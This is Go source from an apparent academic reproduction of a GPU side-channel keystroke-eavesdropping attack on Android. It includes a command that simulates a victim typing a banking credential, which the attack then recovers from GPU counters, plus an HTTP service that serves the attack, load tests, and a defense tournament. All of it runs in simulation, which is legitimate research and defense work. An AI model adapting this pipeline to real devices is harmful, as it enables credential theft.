		rep.Sent, rep.OK, rep.Rejected, rep.Errors, rep.Correct, rep.Degraded, rep.LatencyMS.P50)
}

// runLoad fires requests open-loop at the target rate and aggregates the
// outcomes into a report.
func runLoad(client *http.Client, addr string, rate float64, duration time.Duration,
	text string, seed int64, device, app, kb, faults string) *report {

	if rate <= 0 {
		rate = 1
	}
	interval := time.Duration(float64(time.Second) / rate)
	n := int(float64(duration) / float64(interval))
	if n < 1 {
		n = 1
	}

	var (
		mu       sync.Mutex
		outcomes []outcome
		wg       sync.WaitGroup
	)
	start := time.Now()
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for i := 0; i < n; i++ {
		if i > 0 {
			<-tick.C
		}
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			o := oneRequest(client, addr, eavesdropRequest{
				Device: device, App: app, Keyboard: kb,
				Text: text, Seed: seed + int64(i),
				FaultProfile: faults,
			})
			mu.Lock()
			outcomes = append(outcomes, o)
			mu.Unlock()
		}(i)
	}
	wg.Wait()
	wall := time.Since(start)

	rep := &report{
		Schema:    "gpuleak-load/v1",
		Target:    addr,
		RateRPS:   rate,
		DurationS: duration.Seconds(),
		WallS:     wall.Seconds(),
		Statuses:  map[string]int{},
	}
	var lats []float64
	for _, o := range outcomes {
		rep.Sent++
		rep.Statuses[fmt.Sprintf("%d", o.status)]++
		switch {
		case o.status == http.StatusOK:
			rep.OK++
			lats = append(lats, float64(o.lat)/float64(time.Millisecond))
			if o.correct {
				rep.Correct++
			}
			if o.degraded {
				rep.Degraded++
			}
		case o.status == http.StatusTooManyRequests:
			rep.Rejected++
		case o.status == http.StatusServiceUnavailable:
			rep.Draining++
		default:
			rep.Errors++
		}
	}
	rep.LatencyMS = summarize(lats)
	return rep
}

func oneRequest(client *http.Client, addr string, req eavesdropRequest) outcome {
	body, err := json.Marshal(req)
	if err != nil {
		return outcome{}
	}
	hreq, err := http.NewRequest(http.MethodPost, addr+"/v1/eavesdrop", bytes.NewReader(body))
	if err != nil {
		return outcome{}
	}
	hreq.Header.Set("Content-Type", "application/json")
	hreq.Header.Set(traceparentHeader, obs.NewTrace(req.Seed).Traceparent())
	start := time.Now()
	resp, err := client.Do(hreq)
	if err != nil {
		return outcome{}
	}
	defer resp.Body.Close()
	var er eavesdropResponse
	if err := json.NewDecoder(resp.Body).Decode(&er); err != nil && resp.StatusCode == http.StatusOK {
		return outcome{status: -1, lat: time.Since(start)}
	}
	return outcome{
		status:   resp.StatusCode,
		correct:  er.Text != "" && er.Text == er.Truth,
		degraded: er.Degraded,
		lat:      time.Since(start),
	}
}

func summarize(lats []float64) latency {
	if len(lats) == 0 {
		return latency{}
	}
	sort.Float64s(lats)
	var sum float64
	for _, l := range lats {
		sum += l
	}
	pct := func(p float64) float64 {
		i := int(p * float64(len(lats)-1))
		return lats[i]
	}
	return latency{
		Mean: sum / float64(len(lats)),
		P50:  pct(0.50),
		P90:  pct(0.90),
		P99:  pct(0.99),
		Max:  lats[len(lats)-1],
	}
}

// waitHealthy polls /healthz until the server answers 200.
func waitHealthy(client *http.Client, addr string, wait time.Duration) error {
	deadline := time.Now().Add(wait)
	for {
		resp, err := client.Get(addr + "/healthz")
		if err == nil {
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode == http.StatusOK {
				return nil
			}
		}
		if time.Now().After(deadline) {
			if err != nil {
				return fmt.Errorf("server not healthy after %v: %v", wait, err)
			}
			return fmt.Errorf("server not healthy after %v", wait)
		}
		time.Sleep(200 * time.Millisecond)
	}
}

// sessionResponse mirrors the serve/router session-create body.
type sessionResponse struct {
	ID     string `json:"id"`
	Stream string `json:"stream"`
}

// streamEvent mirrors the gpuleak-stream/v1 data payload.
type streamEvent struct {
	Kind string `json:"kind"`
	Key  string `json:"key"`
	Keys int    `json:"keys"`
}

// sessionOutcome aggregates one streamed session.
type sessionOutcome struct {
	status      int // session-create status (0 = transport error)
	correct     bool
	frames      int
	failovers   int
	lat         time.Duration
	backend     string
	traceparent string // trace context the stream announced in its opening comment
	err         error
}

// runSession creates one streaming session, attaches its SSE stream, and
// replays it to completion. onBackend (optional) receives the owning
// replica named by the create response before the stream attaches;
// onEvent (optional) observes every data frame as it arrives — the fleet
// smoke uses the pair to time the replica kill.
func runSession(client *http.Client, addr string, req eavesdropRequest, onBackend func(string), onEvent func(event string, data []byte)) sessionOutcome {
	body, err := json.Marshal(req)
	if err != nil {
		return sessionOutcome{err: err}
	}
	create, err := http.NewRequest(http.MethodPost, addr+"/v1/sessions", bytes.NewReader(body))
	if err != nil {
		return sessionOutcome{err: err}
	}
	create.Header.Set("Content-Type", "application/json")
	create.Header.Set(traceparentHeader, obs.NewTrace(req.Seed).Traceparent())
	start := time.Now()
	resp, err := client.Do(create)
	if err != nil {
		return sessionOutcome{err: err}
	}
	o := sessionOutcome{status: resp.StatusCode, backend: resp.Header.Get("X-Gpuleak-Backend")}
	if onBackend != nil && o.backend != "" {
		onBackend(o.backend)
	}
	var sr sessionResponse
	decErr := json.NewDecoder(resp.Body).Decode(&sr)
	resp.Body.Close()
	if o.status != http.StatusCreated {
		o.err = fmt.Errorf("session create: status %d", o.status)
		return o
	}
	if decErr != nil {
		o.err = decErr
		return o
	}

	stream, err := client.Get(addr + sr.Stream)
	if err != nil {
		o.err = err
		return o
	}
	defer stream.Body.Close()
	if stream.StatusCode != http.StatusOK {
		o.err = fmt.Errorf("stream attach: status %d", stream.StatusCode)
		return o
	}

	var replay []rune
	event, data := "", []byte(nil)
	sc := bufio.NewScanner(stream.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for sc.Scan() {
		line := sc.Text()
		switch {
		case strings.HasPrefix(line, ": failover"):
			o.failovers++
			continue
		case strings.HasPrefix(line, ": traceparent "):
			o.traceparent = strings.TrimPrefix(line, ": traceparent ")
			continue
		case strings.HasPrefix(line, "event: "):
			event = strings.TrimPrefix(line, "event: ")
			continue
		case strings.HasPrefix(line, "data: "):
			data = append([]byte(nil), strings.TrimPrefix(line, "data: ")...)
			continue
		case line != "":
			continue
		}
		// Blank line: one frame complete.
		if onEvent != nil && event != "" {
			onEvent(event, data)
		}
		switch event {
		case "key", "retract":
			o.frames++
			var ev streamEvent
			if err := json.Unmarshal(data, &ev); err != nil {
				o.err = fmt.Errorf("decoding %s frame: %w", event, err)
				return o
			}
			if ev.Kind == "key" {
				replay = append(replay, []rune(ev.Key)...)
			} else {
				replay = replay[:ev.Keys]
			}
		case "result":
			o.frames++
			o.lat = time.Since(start)
			var res eavesdropResponse
			if err := json.Unmarshal(data, &res); err != nil {
				o.err = fmt.Errorf("decoding result frame: %w", err)
				return o
			}
			o.correct = res.Text != "" && res.Text == res.Truth
			if string(replay) != res.Text {
				o.err = fmt.Errorf("frame replay %q != result text %q", string(replay), res.Text)
				o.correct = false
			}
			return o
		case "error":
			o.err = fmt.Errorf("in-band stream error: %s", data)
			return o
		}
		event, data = "", nil
	}
	if err := sc.Err(); err != nil {
		o.err = err
		return o
	}
	o.err = fmt.Errorf("stream ended without a result frame")
	return o
}

// runFleetLoad drives open-loop streaming-session load and aggregates
// the gpuleak-load/v1 report with the fleet counters filled in.
func runFleetLoad(client *http.Client, addr string, rate float64, duration time.Duration,
	text string, seed int64, device, app, kb string, paceMS int64) *report {

	if rate <= 0 {
		rate = 1
	}
	interval := time.Duration(float64(time.Second) / rate)
	n := int(float64(duration) / float64(interval))
	if n < 1 {
		n = 1
	}

	var (
		mu       sync.Mutex
		outcomes []sessionOutcome
		wg       sync.WaitGroup
	)
	start := time.Now()
	tick := time.NewTicker(interval)
	defer tick.Stop()
	for i := 0; i < n; i++ {
		if i > 0 {
			<-tick.C
		}
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			o := runSession(client, addr, eavesdropRequest{
				Device: device, App: app, Keyboard: kb,
				Text: text, Seed: seed + int64(i), PaceMS: paceMS,
			}, nil, nil)
			mu.Lock()
			outcomes = append(outcomes, o)
			mu.Unlock()
		}(i)
	}
	wg.Wait()
	wall := time.Since(start)

	rep := &report{
		Schema:    "gpuleak-load/v1",
		Target:    addr,
		RateRPS:   rate,
		DurationS: duration.Seconds(),
		WallS:     wall.Seconds(),
		Statuses:  map[string]int{},
	}
	var lats []float64
	for _, o := range outcomes {
		rep.Sent++
		rep.Statuses[fmt.Sprintf("%d", o.status)]++
		rep.Frames += o.frames
		rep.Failovers += o.failovers
		switch {
		case o.err == nil && o.status == http.StatusCreated:
			rep.OK++
			rep.Sessions++
			lats = append(lats, float64(o.lat)/float64(time.Millisecond))
			if o.correct {
				rep.Correct++
			}
		case o.status == http.StatusTooManyRequests:
			rep.Rejected++
		case o.status == http.StatusServiceUnavailable:
			rep.Draining++
		default:
			rep.Errors++
		}
	}
	rep.LatencyMS = summarize(lats)
	return rep
}

// readReplicaPids parses the 'url pid' map the fleet smoke uses to find
// the process behind a backend URL.
func readReplicaPids(path string) (map[string]int, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	pids := map[string]int{}
	for _, line := range strings.Split(string(data), "\n") {
		fields := strings.Fields(line)
		if len(fields) != 2 {
			continue
		}
		pid, err := strconv.Atoi(fields[1])
		if err != nil {
			return nil, fmt.Errorf("replica-pids line %q: %w", line, err)
		}
		pids[strings.TrimRight(fields[0], "/")] = pid
	}
	if len(pids) == 0 {
		return nil, fmt.Errorf("no 'url pid' entries in %s", path)
	}
	return pids, nil
}

// runFleetSmoke is the fleet CI gate: stream one paced session through
// the router, SIGKILL the replica that owns it after the first verdict
// frame, and require the router to splice a failover — the stream must
// still finish with a correct, replay-consistent result.
func runFleetSmoke(client *http.Client, addr, text string, seed, paceMS int64, replicaPids, killedFile string, wait time.Duration) error {
	if replicaPids == "" {
		return fmt.Errorf("fleet smoke needs -replica-pids")
	}
	pids, err := readReplicaPids(replicaPids)
	if err != nil {
		return err
	}
	if err := waitHealthy(client, addr, wait); err != nil {
		return err
	}
	log.Printf("fleet smoke: router /healthz ok")
	if paceMS <= 0 {
		paceMS = 150
	}

	// Warm the model everywhere it can land before pulling the trigger:
	// the smoke measures failover, not cold training.
	warm := oneRequest(client, addr, eavesdropRequest{Text: text, Seed: seed})
	if warm.status != http.StatusOK {
		return fmt.Errorf("fleet smoke: warm-up eavesdrop status %d", warm.status)
	}
	if !warm.correct {
		return fmt.Errorf("fleet smoke: warm-up inference did not match ground truth")
	}
	log.Printf("fleet smoke: routed one-shot ok")

	var (
		killOnce sync.Once
		owner    string
		killed   int
		killErr  error
	)
	o := runSession(client, addr, eavesdropRequest{Text: text, Seed: seed, PaceMS: paceMS},
		func(b string) { owner = b },
		func(event string, data []byte) {
			if event != "key" {
				return
			}
			// The first live verdict frame proves the owner is streaming:
			// kill it now, mid-session, and let the router recover.
			killOnce.Do(func() {
				pid, ok := pids[owner]
				if !ok {
					killErr = fmt.Errorf("owner %q not in replica map %v", owner, pids)
					return
				}
				log.Printf("fleet smoke: killing owner %s (pid %d) mid-stream", owner, pid)
				if err := syscall.Kill(pid, syscall.SIGKILL); err != nil {
					killErr = err
					return
				}
				killed = pid
			})
		})
	if killErr != nil {
		return fmt.Errorf("fleet smoke: %w", killErr)
	}
	if killed == 0 {
		return fmt.Errorf("fleet smoke: stream finished before any key frame; nothing was killed")
	}
	if o.err != nil {
		return fmt.Errorf("fleet smoke: streamed session: %w", o.err)
	}
	if o.failovers < 1 {
		return fmt.Errorf("fleet smoke: owner died but the stream shows no failover splice")
	}
	if !o.correct {
		return fmt.Errorf("fleet smoke: post-failover result does not match ground truth")
	}
	// Trace continuity: the stream's announced trace context must be the
	// one this client minted — a failover that re-minted the trace would
	// split one session across two trace ids.
	wantTP := obs.NewTrace(seed).Traceparent()
	if o.traceparent != wantTP {
		return fmt.Errorf("fleet smoke: stream announced traceparent %q, want the client-minted %q", o.traceparent, wantTP)
	}
	log.Printf("fleet smoke: stream survived the kill (%d frames, %d failover[s], result matches truth, trace id held)",
		o.frames, o.failovers)
	if killedFile != "" {
		if err := os.WriteFile(killedFile, []byte(fmt.Sprintf("%d\n", killed)), 0o644); err != nil {
			return err
		}
	}
	return nil
}
func runSmoke(client *http.Client, addr, text string, seed int64, wait time.Duration) error {
	if err := waitHealthy(client, addr, wait); err != nil {
		return err
	}
	log.Printf("smoke: /healthz ok")
	o := oneRequest(client, addr, eavesdropRequest{Text: text, Seed: seed})
	if o.status != http.StatusOK {
		return fmt.Errorf("smoke: eavesdrop status %d", o.status)
	}
	if !o.correct {
		return fmt.Errorf("smoke: inference did not match ground truth")
	}
	log.Printf("smoke: /v1/eavesdrop ok (%.0f ms, inference matches truth)",
		float64(o.lat)/float64(time.Millisecond))
	return nil
}
