// Command attackd demonstrates the end-to-end attack: it simulates a
// victim device on which a user types a credential into a banking app,
// then runs the attacking application (counter sampler + device
// recognition + online inference engine) against the device file and
// prints what was eavesdropped.
package main

import (
	"flag"
	"fmt"
	"log"
	"os"
	"strings"

	"gpuleak/internal/android"
	"gpuleak/internal/attack"
	"gpuleak/internal/fault"
	"gpuleak/internal/input"
	"gpuleak/internal/keyboard"
	"gpuleak/internal/obs"
	"gpuleak/internal/sim"
	"gpuleak/internal/stats"
	"gpuleak/internal/victim"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("attackd: ")

	device := flag.String("device", "OnePlus 8 Pro", "victim device model")
	app := flag.String("app", "Chase", "target application")
	kb := flag.String("keyboard", "gboard", "on-screen keyboard")
	text := flag.String("text", "hunter2pass", "credential the victim types")
	volunteer := flag.Int("volunteer", 0, "typing profile 0-4")
	modelPath := flag.String("model", "", "pretrained model JSON (default: train on the fly)")
	seed := flag.Int64("seed", 42, "simulation seed")
	practical := flag.Bool("practical", false, "inject corrections/app switches (§8 behavior)")
	traceOut := flag.String("trace", "", "write the raw counter trace as CSV")
	monitor := flag.Bool("monitor", false, "start with the Figure-4 monitoring service: the victim uses another app first, the attack waits for the target launch")
	faults := flag.String("faults", "", "inject device faults from this profile (none,mild,moderate,severe,starve) and arm the retry policy")
	faultSeed := flag.Int64("fault-seed", 0, "fault schedule seed (default: derived from -seed)")
	var obsFlags obs.Flags
	obsFlags.Register(flag.CommandLine)
	flag.Parse()

	stopProfiles, err := obsFlags.StartProfiles()
	if err != nil {
		log.Fatal(err)
	}
	tracer := obsFlags.Tracer()

	dev, ok := android.DeviceByName(*device)
	if !ok {
		log.Fatalf("unknown device %q", *device)
	}
	layout := keyboard.ByName(*kb)
	if layout == nil {
		log.Fatalf("unknown keyboard %q", *kb)
	}
	target, ok := android.AppByName(*app)
	if !ok {
		log.Fatalf("unknown app %q", *app)
	}
	if *volunteer < 0 || *volunteer >= len(input.Volunteers) {
		log.Fatalf("volunteer must be 0-%d", len(input.Volunteers)-1)
	}

	cfg := victim.Config{Device: dev, Keyboard: layout, App: target,
		Seed: *seed, RenderJitter: 0.0001}
	if *monitor {
		cfg.PreLaunch = 6 * sim.Second
	}

	// Offline phase (or load a preloaded model).
	var m *attack.Model
	if *modelPath != "" {
		f, err := os.Open(*modelPath)
		if err != nil {
			log.Fatal(err)
		}
		m, err = attack.ReadModel(f)
		f.Close()
		if err != nil {
			log.Fatal(err)
		}
		log.Printf("loaded model %s (%d keys)", m.Key, len(m.Keys))
	} else {
		log.Printf("offline phase: training classifier for %s / %s ...", dev.Name, layout.Name)
		train := cfg
		train.RenderJitter = 0
		var err error
		m, err = attack.Collect(train, attack.CollectOptions{Repeats: 2, Obs: tracer})
		if err != nil {
			log.Fatal(err)
		}
		log.Printf("trained %d key centroids, %d noise signatures", len(m.Keys), len(m.Noise))
	}

	// Victim session.
	vol := input.Volunteers[*volunteer]
	start := 700*sim.Millisecond + cfg.PreLaunch
	var script input.Script
	if *practical {
		script = input.Practical(*text, vol, input.DefaultPracticalOptions(), sim.NewRand(*seed+1), start)
	} else {
		script = input.Typing(*text, vol, input.SpeedAny, sim.NewRand(*seed+1), start)
	}
	sess := victim.New(cfg)
	sess.Run(script)
	log.Printf("victim: %s launches %s, types %d keys (%s profile)",
		dev.Name, target.Name, script.PressCount(), vol.Name)

	// Online phase.
	sess.Device.SetMetrics(tracer.Metrics())
	f, err := sess.Open()
	if err != nil {
		log.Fatalf("opening /dev/kgsl-3d0: %v", err)
	}
	atk := attack.New(m)
	atk.Obs = tracer
	df := attack.DeviceFile(f)
	var faultFile *fault.File
	if *faults != "" {
		p, ok := fault.ByName(*faults)
		if !ok {
			log.Fatalf("unknown fault profile %q (have %s)", *faults, strings.Join(fault.Names(), ","))
		}
		fs := *faultSeed
		if fs == 0 {
			fs = fault.Seed(*seed, 0)
		}
		faultFile = fault.NewFile(f, p, fs)
		faultFile.Obs = tracer
		df = faultFile
		atk.Retry = attack.DefaultRetryPolicy()
		log.Printf("fault injection: profile %s (rate %.3f, fault seed %d), retry policy armed", p.Name, p.Rate(), fs)
	}
	var res *attack.Result
	if *monitor {
		mr, err := atk.MonitorAndEavesdrop(df, 0, sess.End, attack.MonitorOptions{})
		if err != nil {
			log.Fatalf("monitoring failed: %v", err)
		}
		if !mr.Detected {
			log.Fatalf("target app launch never detected")
		}
		log.Printf("monitor: target launch detected at %v after %d low-duty reads",
			mr.LaunchDetectedAt, mr.IdleReads)
		res = mr.Result
	} else if *traceOut != "" {
		// Collect explicitly so the raw trace can be archived.
		smp, err := attack.NewSamplerRetry(df, atk.Interval, atk.Retry)
		if err != nil {
			log.Fatal(err)
		}
		smp.Obs = tracer
		tr, err := smp.Collect(0, sess.End)
		if err != nil {
			log.Fatal(err)
		}
		out, err := os.Create(*traceOut)
		if err != nil {
			log.Fatal(err)
		}
		if err := tr.WriteCSV(out); err != nil {
			log.Fatal(err)
		}
		if err := out.Close(); err != nil {
			log.Fatalf("writing %s: %v", *traceOut, err)
		}
		log.Printf("wrote counter trace to %s (%d samples)", *traceOut, tr.Len())
		res, err = atk.EavesdropTrace(tr)
		if err != nil {
			log.Fatalf("eavesdropping failed: %v", err)
		}
	} else {
		res, err = atk.Eavesdrop(df, 0, sess.End)
		if err != nil {
			log.Fatalf("eavesdropping failed: %v", err)
		}
	}

	truth := sess.TypedText()
	fmt.Println()
	fmt.Printf("  victim typed : %q\n", truth)
	fmt.Printf("  eavesdropped : %q\n", res.Text)
	fmt.Printf("  exact match  : %v\n", res.Text == truth)
	fmt.Printf("  edit distance: %d\n", stats.Levenshtein(res.Text, truth))
	fmt.Printf("  engine stats : %+v\n", res.Stats)
	fmt.Printf("  ioctl calls  : %d\n", sess.Device.IoctlCount())
	if faultFile != nil {
		fmt.Printf("  injected     : %+v (total %d)\n", faultFile.Stats, faultFile.Stats.Total())
		fmt.Printf("  recovery     : %+v (degraded=%v)\n", res.Recovery, res.Degraded)
	}

	if tracer != nil {
		if err := obsFlags.Write(tracer); err != nil {
			log.Fatalf("writing telemetry: %v", err)
		}
		log.Printf("wrote telemetry to %s (%d events, %s)",
			obsFlags.Path, tracer.Len(), obsFlags.Format)
	}
	if err := stopProfiles(); err != nil {
		log.Fatalf("writing profiles: %v", err)
	}
}
