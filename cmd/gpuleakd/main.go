// Command gpuleakd serves the attack pipeline over HTTP/JSON: a sharded
// model registry trains per-configuration classifiers on demand
// (deduplicated, LRU-capped) and concurrent eavesdrop / train /
// experiment requests flow through bounded per-shard work queues that
// answer 429 under overload. Responses are byte-identical to the library
// path for the same request at any concurrency.
//
// Endpoints:
//
//	POST /v1/eavesdrop            {"text":"hunter2","seed":7,...}  → inference
//	POST /v1/sessions             {"text":"hunter2",...}           → streaming session
//	GET  /v1/sessions/{id}/stream                                  → SSE verdict stream
//	DELETE /v1/sessions/{id}                                       → cancel session
//	POST /v1/train                {"device":"Pixel 5",...}         → warm registry
//	POST /v1/experiment           {"id":"fig17","quick":true}      → paper artifact
//	GET  /healthz                                                  → liveness/drain
//	GET  /metrics                                                  → obs snapshot
//
// SIGINT/SIGTERM initiates graceful shutdown: new requests get 503, every
// in-flight Algorithm-1 run drains (bounded by -drain-timeout), then the
// process exits 0.
//
// With -addr "127.0.0.1:0" the kernel picks a free port; -addr-file
// publishes the bound address for scripts (the CI smoke tests use both
// instead of hard-coding ports).
package main

import (
	"context"
	"flag"
	"log"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"gpuleak/internal/obs"
	"gpuleak/internal/parallel"
	"gpuleak/internal/serve"
	"gpuleak/internal/sim"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("gpuleakd: ")

	addr := flag.String("addr", "127.0.0.1:8080", "listen address (port 0 = ephemeral)")
	addrFile := flag.String("addr-file", "", "write the bound host:port to this file once listening")
	shards := flag.Int("shards", 4, "registry shards / work queues")
	cache := flag.Int("cache", 8, "trained models kept per shard (LRU beyond)")
	workers := flag.Int("queue-workers", 2, "concurrent runs per shard")
	queue := flag.Int("queue-depth", 8, "waiting requests per shard before 429")
	trainWorkers := flag.Int("train-workers", 0, "collection workers per training (0 = one per CPU)")
	trainRepeats := flag.Int("train-repeats", 2, "offline-phase repeats per key")
	reqTimeout := flag.Duration("request-timeout", 2*time.Minute, "per-request deadline cap (0 = none)")
	drainTimeout := flag.Duration("drain-timeout", 30*time.Second, "graceful-shutdown drain bound")
	maxSessions := flag.Int("max-sessions", 64, "resident streaming sessions (oldest unattached evicted beyond)")
	sessionIdle := flag.Duration("session-idle", 30*time.Second, "reap sessions not attached within this window (0 = never)")
	batchWindow := flag.Duration("batch-window", 8*time.Millisecond, "sim-time coalescing window for cross-request classification micro-batches")
	batchMax := flag.Int("batch-max", 16, "classifications per micro-batch flush (0 = batching off)")
	telemetry := flag.Bool("telemetry", false, "record deterministic trace spans for every traced request")
	traceOut := flag.String("trace-out", "", "write the recorded trace as JSONL to this file at shutdown (implies -telemetry)")
	flag.Parse()

	// -telemetry hangs a tracer off the server: requests that arrive with
	// (or mint) a trace context record their span tree under the trace's
	// own track, and -trace-out exports the merged stream at shutdown.
	var tracer *obs.Tracer
	var metrics *obs.Metrics
	if *telemetry || *traceOut != "" {
		tracer = obs.New()
		metrics = tracer.Metrics()
	} else {
		metrics = obs.NewMetrics()
	}
	parallel.ObserveWith(metrics)
	opts := serve.Options{
		Shards:          *shards,
		CachePerShard:   *cache,
		WorkersPerShard: *workers,
		QueuePerShard:   *queue,
		TrainWorkers:    *trainWorkers,
		TrainRepeats:    *trainRepeats,
		RequestTimeout:  *reqTimeout,
		Metrics:         metrics,
		Obs:             tracer,
		MaxSessions:     *maxSessions,
		BatchWindow:     sim.Time(batchWindow.Microseconds()),
		BatchMax:        *batchMax,
		// The serving package is wall-clock-free by policy; the daemon owns
		// the real timers and injects them.
		Pacer: func(ctx context.Context, d time.Duration) {
			t := time.NewTimer(d)
			defer t.Stop()
			select {
			case <-t.C:
			case <-ctx.Done():
			}
		},
	}
	if *sessionIdle > 0 {
		idle := *sessionIdle
		opts.SessionTimer = func(reap func()) func() {
			t := time.AfterFunc(idle, reap)
			return func() { t.Stop() }
		}
	}
	srv := serve.NewServer(opts)

	ln, err := net.Listen("tcp", *addr)
	if err != nil {
		log.Fatal(err)
	}
	if *addrFile != "" {
		if err := os.WriteFile(*addrFile, []byte(ln.Addr().String()+"\n"), 0o644); err != nil {
			log.Fatal(err)
		}
	}
	httpSrv := &http.Server{Handler: srv}

	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer stop()
	drained := make(chan struct{})
	go func() {
		defer close(drained)
		<-ctx.Done()
		log.Printf("shutdown: draining in-flight runs (bound %v)", *drainTimeout)
		dctx, cancel := context.WithTimeout(context.Background(), *drainTimeout)
		defer cancel()
		// Stop admitting first (healthz flips to draining/503), then drain
		// the work queues, then close the HTTP side.
		if err := srv.Shutdown(dctx); err != nil {
			log.Printf("shutdown: %v", err)
		}
		if err := httpSrv.Shutdown(dctx); err != nil {
			log.Printf("shutdown: http: %v", err)
		}
		srv.Close()
	}()

	log.Printf("listening on http://%s (%d shards, %d workers + %d queued per shard)",
		ln.Addr(), *shards, *workers, *queue)
	if err := httpSrv.Serve(ln); err != nil && err != http.ErrServerClosed {
		log.Fatal(err)
	}
	<-drained
	if *traceOut != "" {
		f, err := os.Create(*traceOut)
		if err != nil {
			log.Fatalf("trace export: %v", err)
		}
		if err := obs.WriteJSONL(f, tracer.Events()); err != nil {
			log.Fatalf("trace export: %v", err)
		}
		if err := f.Close(); err != nil {
			log.Fatalf("trace export: %v", err)
		}
		log.Printf("trace: %d events written to %s", tracer.Len(), *traceOut)
	}
	log.Printf("drained cleanly")
}
