// Command arms runs the attack-vs-defense tournament and emits a
// machine-readable gpuleak-arms/v1 JSON report: every selected defense,
// swept over strength levels, against the fused two-channel attack with
// its full retry/resync machinery, scored as an accuracy-vs-overhead
// frontier against the undefended baseline on the same victim sessions.
//
//	arms -defenses jitter,noise,quantize,ratelimit,rbac -strengths 0.25,0.5,1 -trials 5 -seed 1 > arms.json
//
// Defense names compose with "+" ("quantize+jitter" arms both). Reports
// are bit-identical for a fixed seed at any -workers value — every
// session, credential and defense seed derives from the cell and trial
// indices, never from scheduling.
//
// With -check, arms additionally asserts the defense plane's contracts
// and exits non-zero on violation: the frontier must cover at least
// -min-defenses defenses at -min-strengths strengths each, overheads
// must be reported within [0, 1], and at least one frontier point must
// cut fused char accuracy by -min-drop while costing at most
// -max-overhead — the "defenses are worth deploying" headline. CI runs
// this as the arms-smoke gate.
package main

import (
	"encoding/json"
	"flag"
	"fmt"
	"io"
	"log"
	"os"
	"strconv"
	"strings"

	"gpuleak/internal/defense"
	"gpuleak/internal/exp"
)

func main() {
	log.SetFlags(0)
	log.SetPrefix("arms: ")

	defenses := flag.String("defenses", strings.Join(defense.Names(), ","),
		"comma-separated defenses to sweep (registry: "+strings.Join(defense.Names(), ",")+`; join with "+" to chain)`)
	strengths := flag.String("strengths", "0.25,0.5,1", "comma-separated strength levels in (0, 1]")
	trials := flag.Int("trials", 5, "victim sessions per (defense, strength) cell")
	textLen := flag.Int("len", 8, "credential length")
	seed := flag.Int64("seed", 1, "base seed for texts, victim sessions and defense randomness")
	workers := flag.Int("workers", 0, "trial worker count (0 = one per CPU; never changes the report)")
	out := flag.String("out", "", "write the JSON report here (default stdout)")
	check := flag.Bool("check", false, "assert defense-plane contracts (frontier coverage, sane overheads, a worthwhile point)")
	minDrop := flag.Float64("min-drop", 0.30, "-check: required fused char-accuracy drop at the worthwhile point")
	maxOverhead := flag.Float64("max-overhead", 0.10, "-check: overhead budget for the worthwhile point")
	minDefenses := flag.Int("min-defenses", 4, "-check: minimum defenses on the frontier")
	minStrengths := flag.Int("min-strengths", 3, "-check: minimum strength levels per defense")
	flag.Parse()

	var names []string
	for _, name := range strings.Split(*defenses, ",") {
		if name = strings.TrimSpace(name); name != "" {
			names = append(names, name)
		}
	}
	var grid []float64
	for _, s := range strings.Split(*strengths, ",") {
		if s = strings.TrimSpace(s); s == "" {
			continue
		}
		v, err := strconv.ParseFloat(s, 64)
		if err != nil || v <= 0 || v > 1 {
			log.Fatalf("bad strength %q: want a number in (0, 1]", s)
		}
		grid = append(grid, v)
	}

	rep, err := exp.RunArmsTournament(exp.Options{Seed: *seed, Workers: *workers},
		names, grid, *trials, *textLen)
	if err != nil {
		log.Fatal(err)
	}

	w := io.Writer(os.Stdout)
	if *out != "" {
		f, err := os.Create(*out)
		if err != nil {
			log.Fatal(err)
		}
		defer func() {
			if err := f.Close(); err != nil {
				log.Fatal(err)
			}
		}()
		w = f
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	if err := enc.Encode(rep); err != nil {
		log.Fatal(err)
	}
	log.Printf("%-20s baseline char_acc=%.1f%% (kgsl=%.1f%% proc=%.1f%%)", "(undefended)",
		100*rep.Baseline.CharAcc, 100*rep.Baseline.KGSLCharAcc, 100*rep.Baseline.ProcCharAcc)
	for _, d := range rep.Defenses {
		for _, pt := range d.Points {
			log.Printf("%-20s s=%-4g overhead=%.3f char_acc=%.1f%% drop=%.1f%% blocked=%d/%d",
				d.Defense, pt.Strength, pt.Overhead, 100*pt.CharAcc, 100*pt.Drop, pt.Blocked, rep.Trials)
		}
	}

	if *check {
		if err := checkReport(rep, *minDefenses, *minStrengths, *minDrop, *maxOverhead); err != nil {
			log.Fatalf("check failed: %v", err)
		}
		log.Printf("check: ok")
	}
}

// checkReport asserts the defense plane's contracts on a finished report.
func checkReport(rep *exp.ArmsReport, minDefenses, minStrengths int, minDrop, maxOverhead float64) error {
	if rep.Schema != exp.ArmsSchema {
		return fmt.Errorf("schema %q, want %q", rep.Schema, exp.ArmsSchema)
	}
	if len(rep.Defenses) < minDefenses {
		return fmt.Errorf("frontier covers %d defenses, want >= %d", len(rep.Defenses), minDefenses)
	}
	if rep.Baseline.CharAcc <= 0 {
		return fmt.Errorf("undefended baseline char accuracy is %.3f; the attack itself is broken", rep.Baseline.CharAcc)
	}
	worthwhile := false
	for _, d := range rep.Defenses {
		if len(d.Points) < minStrengths {
			return fmt.Errorf("defense %q swept %d strengths, want >= %d", d.Defense, len(d.Points), minStrengths)
		}
		for _, pt := range d.Points {
			if pt.Overhead < 0 || pt.Overhead > 1 {
				return fmt.Errorf("defense %q at strength %g reports overhead %.3f outside [0, 1]",
					d.Defense, pt.Strength, pt.Overhead)
			}
			if pt.Drop >= minDrop && pt.Overhead <= maxOverhead {
				worthwhile = true
			}
		}
	}
	if !worthwhile {
		return fmt.Errorf("no frontier point drops fused char accuracy by >= %.2f at overhead <= %.2f", minDrop, maxOverhead)
	}
	return nil
}
