// Command benchpaper regenerates every table and figure of the paper's
// evaluation on the simulated stack and prints the results as tables —
// the data behind EXPERIMENTS.md. With -json it instead emits a
// machine-readable report (wall time, per-experiment seconds, headline
// metrics) suitable for BENCH_*.json perf-trajectory tracking in CI.
//
// Usage:
//
//	benchpaper                     # every experiment, quick scale
